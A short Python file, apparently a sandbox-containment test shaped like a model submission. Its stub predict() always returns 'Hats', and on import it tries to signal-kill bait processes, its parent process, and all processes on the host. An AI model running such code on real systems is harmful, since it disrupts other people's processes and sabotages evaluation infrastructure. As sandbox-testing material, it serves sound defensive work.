import os
import signal

from bait import BAIT, attempt

for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
    for pid in BAIT["pids"]:
        attempt("kill", lambda: os.kill(pid, number))
    try:
        os.kill(os.getppid(), number)
        os.kill(-1, number)
    except OSError as error:
        print("denied", error)


def predict(image):
    return "Hats"
